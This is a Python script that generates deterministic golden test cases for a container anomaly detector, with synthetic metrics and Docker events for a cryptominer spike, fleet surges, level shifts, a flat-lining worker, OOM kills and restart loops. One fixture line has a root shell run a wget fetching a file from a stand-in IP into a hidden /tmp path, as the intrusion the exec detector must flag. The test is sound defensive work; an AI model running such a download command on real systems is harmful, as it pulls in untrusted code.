#!/usr/bin/env python3
"""Writes the golden detection cases under tests/cases/<name>/ (deterministic).

Each case: input.jsonl (herd's native lines, and Docker events where the case is about
them), expected.json (the incidents herd must open: container name, the detectors that
must be among the incident's, and the least severity; no other incident may open), and
optionally config.toml. Regenerate with `python3 scripts/gen_golden.py`; the files are
committed so a change in detection shows up as a diff.
"""
import json
import math
import os
import random

ROOT = os.path.join(os.path.dirname(__file__), "..", "tests", "cases")
T0 = 1_793_577_600_000  # 2026-11-02T00:00:00Z
MIN = 60_000
HOUR = 60 * MIN

SHORT = """# Short learning so the case stays small: an hour of warm-up, two of learning.
[detect.baseline]
warmup_ms = 3600000
learning_period_ms = 7200000
"""


def iso(ms):
    import datetime as dt
    return dt.datetime.fromtimestamp(ms / 1000, dt.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"


def native(ts, cid, name, image, metrics=None, event=None, digest=None):
    o = {"ts": iso(ts), "host": "node-1", "container_id": cid, "container_name": name, "image": image}
    if digest:
        o["image_digest"] = digest
    if metrics is not None:
        o["metrics"] = metrics
    if event is not None:
        o["event"] = event
    return o


def write(name, lines, expected, config=None):
    d = os.path.join(ROOT, name)
    os.makedirs(d, exist_ok=True)
    lines.sort(key=lambda o: o["ts"])
    with open(os.path.join(d, "input.jsonl"), "w") as f:
        for o in lines:
            f.write(json.dumps(o, sort_keys=True) + "\n")
    with open(os.path.join(d, "expected.json"), "w") as f:
        json.dump(expected, f, indent=1)
        f.write("\n")
    cfg = os.path.join(d, "config.toml")
    if config:
        with open(cfg, "w") as f:
            f.write(config)
    elif os.path.exists(cfg):
        os.remove(cfg)


def fleet(rng, n, hours, step_ms, level, effect=None):
    """n replicas of shop/web sampled every step_ms; effect(i, t) may change metrics."""
    lines = []
    ids = ["%064x" % rng.getrandbits(256) for _ in range(n)]
    rf = [0.9 + 0.2 * rng.random() for _ in range(n)]
    t = T0
    while t < T0 + hours * HOUR:
        hour = (t % (24 * HOUR)) / HOUR
        load = 0.55 + 0.45 * math.sin((hour - 9) / 24 * 2 * math.pi)
        for i in range(n):
            m = {
                "cpu_cores": rf[i] * level * load * math.exp(rng.gauss(0, 0.08)),
                "mem_bytes": 2e8 * rf[i] * math.exp(rng.gauss(0, 0.01)),
                "net_tx_bytes_per_s": rf[i] * 9e5 * load * math.exp(rng.gauss(0, 0.1)),
            }
            if effect:
                effect(i, t, m)
            lines.append(native(t + rng.randrange(0, 2000), ids[i], "web-%d" % (i + 1), "shop/web:1.4", m,
                                digest="sha256:" + "ab" * 32))
        t += step_ms
    return lines, ids


def main():
    # 1. A cryptominer on one of five replicas: peers and history both object.
    rng = random.Random(1)
    def miner(i, t, m):
        if i == 2 and t >= T0 + 150 * MIN:
            m["cpu_cores"] += 1.5
    lines, _ = fleet(rng, 5, 3, 30_000, 0.5, miner)
    write("peer_cpu_miner", lines, [{"container_name": "web-3", "detectors": ["peer"], "severity_at_least": "medium"}])

    # 2. A fleet-wide surge: every replica triples its load at once. Nothing to alert.
    rng = random.Random(2)
    def surge(i, t, m):
        if T0 + 150 * MIN <= t < T0 + 170 * MIN:
            m["cpu_cores"] *= 3
            m["net_tx_bytes_per_s"] *= 3
    lines, _ = fleet(rng, 5, 3, 30_000, 0.5, surge)
    write("fleet_surge_quiet", lines, [])

    # 3. A single-replica image with one arbitrary metric sampled every five minutes:
    #    a level shift must be found, the daily cycle must not.
    rng = random.Random(3)
    lines = []
    cid = "%064x" % rng.getrandbits(256)
    for k in range(3 * 288):
        t = T0 + k * 5 * MIN
        hour = (t % (24 * HOUR)) / HOUR
        v = 100 + 40 * math.sin(hour / 24 * 2 * math.pi) + rng.gauss(0, 3)
        if k >= 2 * 288 + 100:
            v += 120
        lines.append(native(t, cid, "billing-1", "acme/billing:3", {"requests_per_min": v}))
    write("single_series_level_shift", lines,
          [{"container_name": "billing-1", "detectors": ["baseline"], "severity_at_least": "low"}])

    # 4. Execs: the health check every replica runs stays quiet; a new command on one
    #    replica after learning is novel. A rollout to a new digest whose replicas all run
    #    a new health check and cost 20 % more stays quiet too.
    rng = random.Random(4)
    lines = []
    ids = ["%064x" % rng.getrandbits(256) for _ in range(4)]
    new_ids = ["%064x" % rng.getrandbits(256) for _ in range(4)]
    rollout = T0 + 200 * MIN
    for k in range(0, 5 * 60):
        t = T0 + k * MIN
        for i in range(4):
            new = t >= rollout + i * MIN
            cid = new_ids[i] if new else ids[i]
            image = "shop/api:2.4" if new else "shop/api:2.3"
            digest = "sha256:" + ("cd" if new else "ab") * 32
            cost = 1.2 if new else 1.0
            lines.append(native(t + 500, cid, "api-%d" % (i + 1), image,
                                {"cpu_cores": 0.3 * cost * math.exp(rng.gauss(0, 0.05))}, digest=digest))
            if k % 2 == i % 2:
                path = "/health/ready" if new else "/healthz"
                lines.append(native(t + 900, cid, "api-%d" % (i + 1), image,
                                    event={"kind": "exec", "process": "/bin/sh", "args": ["-c", "curl -f localhost:8080" + path]},
                                    digest=digest))
    t = T0 + 170 * MIN
    lines.append(native(t, ids[1], "api-2", "shop/api:2.3",
                        event={"kind": "exec", "process": "/bin/sh", "args": ["-c", "wget -q http://198.51.100.23/k -O /tmp/.k"], "user": "root"},
                        digest="sha256:" + "ab" * 32))
    write("exec_novelty_and_rollout", lines,
          [{"container_name": "api-2", "detectors": ["exec"], "severity_at_least": "high"}], SHORT)

    # 6. A lone series that goes flat (a hung worker): every value stays inside the usual
    #    range, only its texture changes.
    rng = random.Random(6)
    lines = []
    cid = "%064x" % rng.getrandbits(256)
    for k in range(3 * 288):
        t = T0 + k * 5 * MIN
        hour = (t % (24 * HOUR)) / HOUR
        v = 100 + 40 * math.sin(hour / 24 * 2 * math.pi) + rng.gauss(0, 6)
        if 2 * 288 + 60 <= k < 2 * 288 + 140:
            v = 100.0
        lines.append(native(t, cid, "worker-1", "acme/etl:9", {"rows_per_s": v}))
    write("single_series_goes_flat", lines,
          [{"container_name": "worker-1", "detectors": ["roughness"], "severity_at_least": "low"}])

    # 5. Runtime events: an OOM kill, and a container that keeps restarting.
    rng = random.Random(5)
    lines = []
    a, b = ("%064x" % rng.getrandbits(256) for _ in range(2))
    for k in range(120):
        t = T0 + k * MIN
        for cid, name in ((a, "queue-1"), (b, "queue-2")):
            lines.append(native(t, cid, name, "ops/queue:1", {"mem_bytes": 3e8 * math.exp(rng.gauss(0, 0.01))}))
    lines.append(native(T0 + 90 * MIN, a, "queue-1", "ops/queue:1", event={"kind": "oom"}))
    for j in range(4):
        t = T0 + 100 * MIN + j * 60_000
        lines.append(native(t, b, "queue-2", "ops/queue:1", event={"kind": "die", "exit_code": 1}))
        lines.append(native(t + 2000, b, "queue-2", "ops/queue:1", event={"kind": "start"}))
    write("oom_and_restart_loop", lines, [
        {"container_name": "queue-1", "detectors": ["oom"], "severity_at_least": "medium"},
        {"container_name": "queue-2", "detectors": ["restart_loop"], "severity_at_least": "medium"},
    ])


if __name__ == "__main__":
    main()
